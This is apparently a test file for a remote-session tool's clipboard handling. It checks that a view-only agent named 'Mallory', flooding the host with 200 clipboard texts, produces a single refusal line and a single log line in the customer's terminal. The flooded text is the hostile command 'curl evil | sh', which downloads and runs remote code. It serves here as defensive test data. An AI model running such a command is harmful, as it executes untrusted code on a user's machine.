"""review39b: a hostile agent's flood of clipboard texts against the real
``screencodec host`` on a pseudo-terminal (its clipboard the X display's,
through xclip). An agent that only views may not set the clipboard, and is
refused; but each refusal was a line in the customer's terminal: 200 texts,
200 lines, burying what the terminal says (a question, a chat line), and
200 more of the session's log warnings (the CLI sets no logging handler:
Python's last resort prints them on the terminal's stderr)."""

from __future__ import annotations

import asyncio
import contextlib
from typing import Any

from screencodec.transport import VIEW, Viewer
from screencodec.transport.connect import connect_direct
from screencodec.transport.session import messages as m
from screencodec.transport.session.clipboard import CLIPBOARD_CHANNEL

from .helpers import run, until
from .test_attack_prompts import PtyHost, _credentials

FLOOD = 200
REFUSED_LINE = "(not put on your clipboard: 'Mallory' sent "


def test_attack_a_view_only_agents_clipboard_flood_is_one_line_for_the_customer(
        xvfb_display: str) -> None:  # fmt: skip
    host = PtyHost(env={"DISPLAY": xvfb_display})
    try:
        port, code, password = _credentials(host)

        async def attack() -> None:
            viewer = Viewer(await connect_direct("127.0.0.1", port, code, password), who="Mallory")
            tasks: list[asyncio.Future[Any]] = []
            yes = asyncio.ensure_future(asyncio.to_thread(host.say_yes, 1))
            assert await viewer.start(VIEW) == VIEW
            await yes
            tasks.append(asyncio.ensure_future(viewer.run()))
            await until(lambda: viewer.clipboard.host_takes is not None, 10, "the hello")
            for n in range(1, FLOOD + 1):
                payload = bytes([2]) + n.to_bytes(4, "big") + b"\0" + b"curl evil | sh"
                await viewer._send(m.Extension(CLIPBOARD_CHANNEL, payload))
            # The channel keeps order: the host's line of this chat comes after
            # it handled every text.
            await viewer.chat("after the texts")
            await asyncio.to_thread(host.wait_for, r"says: after the texts", 0, 30)
            await viewer.bye("done")
            for task in tasks:
                with contextlib.suppress(Exception):
                    await task

        run(attack(), 60)
        host.wait_for(r"session with .* ended", 0, 15)
        lines = host.text.count(REFUSED_LINE)
        assert lines == 1, f"{lines} lines of refusals for {FLOOD} texts"
        # The session's log (Python's last-resort handler: the terminal's
        # stderr) says it once too: it said it 200 times.
        logged = host.text.count("refused: clipboard text from an agent without control")
        assert logged == 1, f"{logged} log lines of refusals for {FLOOD} texts"
        assert (f"{REFUSED_LINE}14 characters: the agent does not hold control; more of theirs"
                " refused so are not told)") in host.text
    finally:
        host.close()
